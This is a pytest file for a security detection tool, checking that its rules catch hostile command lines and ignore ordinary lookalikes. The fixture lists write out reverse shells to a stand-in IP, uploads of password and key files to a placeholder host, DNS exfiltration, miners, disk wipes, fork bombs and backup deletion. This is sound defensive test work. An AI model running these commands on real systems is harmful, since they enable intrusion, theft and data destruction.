"""Rules that ship and read command lines: the forms that they know, and what they leave alone."""

import re
from collections import Counter
from pathlib import Path

import pytest

import falcotrace as ft
from small_captures import Row, write_capture

RULES = Path(__file__).parents[3] / "rules"
SETUID, GUARDS = "Privileged programs searched for", "Security software looked for"
SCRIPT, CLUSTER = "Enumeration script started", "Cluster explored from a container"
DOMAIN, SCANNER = "Domain explored", "Network scanner started"
UNCHECKED, SENT_KEY = "ssh without checks of the host", "Key handed out to another host"
SENT_TOOL, WINDOWS = (
    "Tool sent to another host and started",
    "Windows machines administered from here",
)
GIVEN, TUNNEL = "Connection given to a program", "Tunnel made with ssh"
CONNECTED = "Shell connected by a line of script"
PACKED, UPLOADED = "Secrets packed", "File uploaded by a web tool"
DRIVE, SNIFFED, NAMES = (
    "Files sent to a cloud drive",
    "Network traffic captured",
    "Data carried out in names",
)
MINER, DISK, ENCRYPTED = "Miner started", "Disk overwritten", "Files encrypted one after the other"
BACKUPS, STOPPED, BOMB = "Backups destroyed", "Service with data stopped", "Fork bomb"
ACCOUNT, HALTED = "Account locked by a script", "Machine stopped at once"
REMOVED = "Everything below a directory of the system removed"
EMPTIED = "Database emptied from the command line"
UNSAFE = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
LONG = "b3JkZXJzLDIwMjYtMTAsbGFtcCxjYW5kbGUsbWF0Y2gK"

FIRES = (
    (SETUID, "find / -perm -4000"),
    (SETUID, "find / -xdev -type f -perm /6000"),
    (SETUID, "find / -perm -u=s -type f"),
    (SETUID, "find / -perm -g+s"),
    (SETUID, "find / -perm 04755"),
    (SETUID, "getcap -r /"),
    (SETUID, "getcap -nr /usr"),
    (GUARDS, "pgrep -f falcon-sensor"),
    (GUARDS, "grep -E clamd|wazuh"),
    (SCRIPT, "sh ./lse.sh -l1"),
    (SCRIPT, "pspy64 -p"),
    (SCRIPT, "bash /dev/shm/LinEnum.sh"),
    (DOMAIN, "python3 /opt/impacket/GetNPUsers.py example.com/"),
    (DOMAIN, "kerbrute userenum names"),
    (SCANNER, "masscan -p0-65535 192.0.2.0/24"),
    (UNCHECKED, f"ssh {UNSAFE} root@192.0.2.7 id"),
    (UNCHECKED, "scp -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null a b:"),
    (SENT_KEY, "ssh b mkdir -p .ssh; echo k >> ~/.ssh/authorized_keys"),
    (SENT_TOOL, "ssh b nohup /dev/shm/a &"),
    (SENT_TOOL, "ssh b curl -o /tmp/a http://x; chmod +x /tmp/a"),
    (WINDOWS, "python3 /usr/share/doc/secretsdump.py example.com/ops@dc"),
    (WINDOWS, "impacket-psexec example.com/ops@dc"),
    (GIVEN, "nc -lvp 4444 -e /bin/bash"),
    (GIVEN, "nc 192.0.2.7 4444 -c sh"),
    (GIVEN, "ncat --ssl --exec /bin/sh 192.0.2.7 443"),
    (GIVEN, "busybox nc 192.0.2.7 4444 -e sh"),
    (GIVEN, "socat OPENSSL-LISTEN:443,cert=a exec:/bin/bash,pty"),
    (TUNNEL, "ssh -fN -R 127.0.0.1:8022:localhost:22 b"),
    (TUNNEL, "ssh -D1080 b"),
    (TUNNEL, "ssh -CqTnN -D 0.0.0.0:1080 b"),
    (TUNNEL, "ssh -o RemoteForward=8022 b"),
    (CONNECTED, "python3 -c import socket,pty;s=socket.socket();pty.spawn('sh')"),
    (CONNECTED, "php -r $s=fsockopen('192.0.2.7',4444);exec('sh <&3');"),
    (CONNECTED, "ruby -rsocket -e s=TCPSocket.new('192.0.2.7',4444);exec('/bin/sh',in:s,out:s)"),
    (CONNECTED, "sh -c exec 5<>/dev/tcp/192.0.2.7/4444; sh <&5 >&5"),
    (CONNECTED, "gawk BEGIN{s=/inet/tcp/0/192.0.2.7/4444}".replace("=/inet", '="/inet')),
    (PACKED, "tar czf a.tgz /home/ops/.ssh"),
    (PACKED, "zip -r a.zip /root/.kube/"),
    (PACKED, "7z a a.7z /etc/shadow"),
    (UPLOADED, "curl --upload-file /etc/passwd http://x"),
    (UPLOADED, "curl -F a=@/root/notes http://x"),
    (UPLOADED, "curl --data-binary @dump.sql http://x"),
    (UPLOADED, "curl -Tsite.tar.gz http://x"),
    (UPLOADED, "wget --body-file=a --method=PUT http://x"),
    (DRIVE, "rclone sync /srv remote:a"),
    (SNIFFED, "tcpdump -i any -w /tmp/a.pcap"),
    (NAMES, f"dig +short {LONG}.example.net"),
    (NAMES, f"nslookup {LONG}.t.example.net 192.0.2.7"),
    (MINER, "kworkerds -o stratum+ssl://pool:443 -u w"),
    (MINER, "a --algo=rx/0 -o pool:443"),
    (MINER, "a --coin monero -o pool:443"),
    (DISK, "dd if=/dev/urandom of=/dev/nvme0n1 bs=1M"),
    (DISK, "shred -v /dev/sda"),
    (DISK, "wipefs --all /dev/vda"),
    (DISK, "wipefs -af /dev/sda"),
    (DISK, "badblocks -wsv /dev/sdb"),
    (DISK, "cryptsetup luksErase /dev/sda2"),
    (ENCRYPTED, "openssl enc -aes-256-cbc -in a -out a.locked"),
    (ENCRYPTED, "gpg --batch -c --output a.encrypted a"),
    (ENCRYPTED, "openssl aes-256-cbc -salt -in a -out a.crypt"),
    (BACKUPS, "rm -rf /var/backups"),
    (BACKUPS, "rm -r /backup/*"),
    (BACKUPS, "borg delete /srv/repo"),
    (BACKUPS, "zfs destroy -r tank@yesterday"),
    (BACKUPS, "restic forget --keep-last 1 --prune"),
    (BACKUPS, "btrfs subvolume delete /.snapshots/1"),
    (STOPPED, "systemctl disable --now postgresql@15-main"),
    (STOPPED, "pkill -KILL mysqld"),
    (STOPPED, "service docker stop"),
    (BOMB, "bash -c :(){ :|:& };:"),
    (BOMB, "sh -c f() { f | f & } ; f"),
    (ACCOUNT, "usermod -L ops"),
    (ACCOUNT, "usermod --expiredate 1 ops"),
    (ACCOUNT, "passwd --delete root"),
    (ACCOUNT, "chage -E 0 ops"),
    (HALTED, "reboot -ff"),
    (HALTED, "systemctl reboot --force --force"),
    (REMOVED, "rm -rf / --no-preserve-root"),
    (REMOVED, "rm -fr /home/*"),
    (REMOVED, "find /srv -type f -delete"),
    (EMPTIED, "mysql -e drop database orders"),
    (EMPTIED, "redis-cli -h 192.0.2.7 FLUSHALL"),
    (EMPTIED, "mongosh --eval db.dropDatabase()"),
)
SILENT = (
    (SETUID, "find / -perm -0755"),
    (SETUID, "find / -perm 644 -name 4000"),
    (SETUID, "getcap /usr/bin/ping"),
    (GUARDS, "grep sshd /etc/passwd"),
    (SCRIPT, "vim linpeas.sh"),
    (SCRIPT, "bash /srv/false.sh"),
    (SCRIPT, "less /srv/les.sh"),
    (DOMAIN, "python3 GetWeather.py"),
    (SCANNER, "grep nmap /etc/services"),
    (UNCHECKED, "ssh -o StrictHostKeyChecking=no b"),
    (SENT_KEY, "ssh -o AuthorizedKeysFile=.ssh/authorized_keys b"),
    (SENT_TOOL, "ssh b ls -l /tmp/a"),
    (SENT_TOOL, "ssh b sh /srv/deploy.sh /tmp/a"),
    (WINDOWS, "vim psexec.py"),
    (WINDOWS, "python3 mypsexec.python"),
    (GIVEN, "nc -zv 192.0.2.7 22"),
    (GIVEN, "ncat -l 8080"),
    (GIVEN, "nc -C mail.example.org 25"),
    (GIVEN, "socat UNIX-LISTEN:/run/a EXEC:/usr/bin/a"),
    (GIVEN, "socat TCP-LISTEN:80,fork TCP:b:8080"),
    (TUNNEL, "ssh b ls -lR /srv"),
    (TUNNEL, "ssh -L 5432:localhost:5432 b"),
    (TUNNEL, "ssh b rsync --server -vlogDtpre.iLsfxC . /srv"),
    (TUNNEL, "ssh -p 22 b df -h"),
    (CONNECTED, "python3 -c import socket;print(socket.gethostname())"),
    (CONNECTED, "bash -c exec 3<>/dev/tcp/127.0.0.1/80"),
    (CONNECTED, "perl -MSocket -e print inet_ntoa(INADDR_ANY)"),
    (CONNECTED, "awk {print $1}"),
    (CONNECTED, "ruby -rsocket -e puts TCPSocket.new('127.0.0.1',80).gets"),
    (CONNECTED, "php -r echo fgets(fsockopen('127.0.0.1',80));"),
    (PACKED, "tar czf home.tgz /home"),
    (PACKED, "tar cf a.tar --exclude /home/ops/.ssh /home/ops"),
    (PACKED, "tar xf a.tar docs.sshd"),
    (UPLOADED, "curl -d a=b http://x"),
    (UPLOADED, "curl -F note=@notes.txt http://x"),
    (UPLOADED, "curl -T a.tar.gz http://localhost/"),
    (UPLOADED, "curl -O http://x/a.tar.gz"),
    (UPLOADED, "curl -sSfL https://x/a.tar.gz -o /tmp/.cache/a.tar.gz"),
    (UPLOADED, "wget http://x/a.tar.gz"),
    (DRIVE, "rclone ls remote:"),
    (SNIFFED, "tcpdump -r a.pcap"),
    (SNIFFED, "dumpcap -D"),
    (SNIFFED, "tshark --version"),
    (NAMES, "dig packages.example.org"),
    (NAMES, f"dig {LONG}._domainkey.example.org TXT"),
    (NAMES, "host a-rather-long-name-of-a-host.example.org"),
    (MINER, "grep -r stratum+tcp /srv"),
    (MINER, "a --algo=sha256 --coin"),
    (DISK, "dd if=/dev/sda of=/srv/image"),
    (DISK, "dd if=image of=/dev/null"),
    (DISK, "wipefs /dev/sda"),
    (DISK, "badblocks -sv /dev/sda"),
    (DISK, "shred -u notes.txt"),
    (ENCRYPTED, "openssl enc -d -aes-256-cbc -in a.enc -out a"),
    (ENCRYPTED, "openssl enc -aes-256-cbc -in a.tar -out a.tar.aes"),
    (ENCRYPTED, "openssl enc -aes-256-cbc -in web.pem -out web.enc"),
    (ENCRYPTED, "gpg --verify a.asc"),
    (ENCRYPTED, "openssl s_client -connect b:443"),
    (BACKUPS, "rm -f /var/backups/dpkg.status.6.gz"),
    (BACKUPS, "rm -rf /var/backups-of-nobody"),
    (BACKUPS, "borg prune --keep-daily 7 /srv/repo"),
    (BACKUPS, "zfs list"),
    (STOPPED, "systemctl stop cups"),
    (STOPPED, "systemctl is-active mysql"),
    (STOPPED, "pkill mysqld"),
    (BOMB, "bash -c f() { g | h; }; f"),
    (BOMB, "bash -c start() { server | logger & }; start"),
    (ACCOUNT, "usermod -aG docker ops"),
    (ACCOUNT, "passwd -S root"),
    (ACCOUNT, "chpasswd"),
    (ACCOUNT, "userdel -r clerk"),
    (ACCOUNT, "chage -l ops"),
    (HALTED, "systemctl reboot"),
    (HALTED, "reboot --help"),
    (REMOVED, "rm -rf /home/ops/build"),
    (REMOVED, "rm -rf /usr/local/lib/node_modules/a"),
    (REMOVED, "rm -f /var/lock"),
    (REMOVED, "find /tmp -mtime +7 -delete"),
    (REMOVED, "find /var/lib/php/sessions -cmin +24 -delete"),
    (EMPTIED, "psql -c select 1"),
    (EMPTIED, "sqlite3 a.db drop table a"),
    (EMPTIED, "mysql -e drop database orders_test"),
)


def executed(line: str) -> Row:
    """A program was executed by somebody without a terminal who is not root."""
    program, *arguments = line.split()
    return {
        "evt.type": "execve",
        "evt.res": "SUCCESS",
        "evt.rawres": 0,
        "proc.name": program,
        "proc.exepath": f"/usr/bin/{program}",
        "proc.argv": arguments,
        "proc.cmdline": line,
        "proc.tty": 0,
        "user.uid": 1000,
        "container.id": "host",
    }


@pytest.fixture(scope="module")
def alerts(tmp_path_factory: pytest.TempPathFactory) -> set[tuple[str, int]]:
    """Rules that fired, with the number of the event: the place of the command line, from 1."""
    path = tmp_path_factory.mktemp("lines") / "c.parquet"
    write_capture(path, [[executed(line) for _, line in (*FIRES, *SILENT)]])
    with ft.open(path) as capture:
        return {(alert.rule.name, alert.num) for alert in capture.scan(ft.rules())}


@pytest.mark.parametrize(
    ("number", "rule"),
    [(number, rule) for number, (rule, _) in enumerate(FIRES, 1)],
    ids=[line for _, line in FIRES],
)
def test_form_of_an_attack_is_known(number: int, rule: str, alerts: set[tuple[str, int]]) -> None:
    """The rule does not depend on the one spelling that a capture has."""
    assert (rule, number) in alerts


@pytest.mark.parametrize(
    ("number", "rule"),
    [(number, rule) for number, (rule, _) in enumerate(SILENT, len(FIRES) + 1)],
    ids=[line for _, line in SILENT],
)
def test_what_looks_alike_is_left(number: int, rule: str, alerts: set[tuple[str, int]]) -> None:
    """Ordinary uses of the same tools raise no alert."""
    assert (rule, number) not in alerts


def test_no_list_or_macro_is_said_twice() -> None:
    """A second one of the same name would take the first one's place in every other file."""
    texts = [path.read_text() for path in RULES.glob("*.yaml")]
    names = re.findall(r"^- (?:list|macro): (.*)$", "\n".join(texts), re.MULTILINE)
    assert [name for name, count in Counter(names).items() if count > 1] == []
